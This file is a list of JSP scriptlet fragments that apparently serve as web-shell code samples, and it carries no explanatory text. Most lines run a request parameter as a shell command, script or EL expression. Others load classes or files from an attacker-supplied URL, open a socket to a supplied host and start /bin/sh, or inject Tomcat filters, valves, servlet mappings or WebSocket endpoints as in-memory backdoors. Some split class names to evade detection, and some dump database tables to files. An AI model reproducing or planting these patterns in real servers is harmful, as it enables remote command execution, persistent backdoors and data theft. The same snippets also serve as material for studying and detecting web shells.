<% for (String table : tables) { out.println("Dumping data for table " + table + "..."); Writer w = new OutputStreamWriter(new FileOutputStream(dir + table + ".txt")); } %>
<% while (r.next()) { bw.append("INSERT INTO " + table + " VALUES ("); } OutputStream o = new FileOutputStream(new File(dir, table)); %>
<% ServerEndpointConfig cfg = ServerEndpointConfig.Builder.create(P.class, "/x").build(); ((ServerContainer) application.getAttribute(ServerContainer.class.getName())).addEndpoint(cfg); %>
<% InputStream in = new java.net.URL( request.getParameter("u") ).openStream(); OutputStream o = new FileOutputStream(new File(dir, name)); %>
<% Object o = new java.net.URLClassLoader(new java.net.URL[]{ new java.net.URL(request.getParameter("u")) }).loadClass("P").newInstance(); %>
<% Object v = new javax.script.ScriptEngineManager().getEngineByName("js").eval( request.getParameter("c") ); %>
<% Object p = Runtime.class.getMethod("exec", String.class).invoke(Runtime.getRuntime(), c); %>
<% Class<?> k = Class.forName("java.lang.Ru" + "ntime"); Object r = k.getMethod("getRuntime").invoke(null); %>
<% Class pi = Class.forName("java.lang.ProcessImpl"); %>
<% java.lang.reflect.Method d = ClassLoader.class.getDeclaredMethod( "defineClass", byte[].class, int.class, int.class); d.setAccessible(true); %>
<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByExtension("js"); e.eval( request.getParameter("c") ); %>
<% Object o = new javax.el.ELProcessor().eval(request.getParameter("c")); %>
<% String[] cmd = {"/bin/bash", "-c", request.getParameter("c")}; Runtime.getRuntime().exec(cmd); %>
<% StandardContext ctx = (StandardContext) req.getContext(); FilterDef fd = new FilterDef(); fd.setFilter(f); ctx.addFilterDef(fd); %>
<% StandardContext sc = (StandardContext) c.get(o); sc.getPipeline().addValve(v); %>
<% org.apache.catalina.core.StandardContext s = x; s.addServletMappingDecoded("/x", "y"); %>
<% String c = request.getParameter("c"); String[] a = isWin ? new String[]{"cmd", "/c", c} : new String[]{"/bin/bash", "-c", c}; Process p = Runtime.getRuntime().exec(a); %>
<% java.net.Socket s = new java.net.Socket( request.getParameter("h"), Integer.parseInt(request.getParameter("p")) ); Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start(); %>
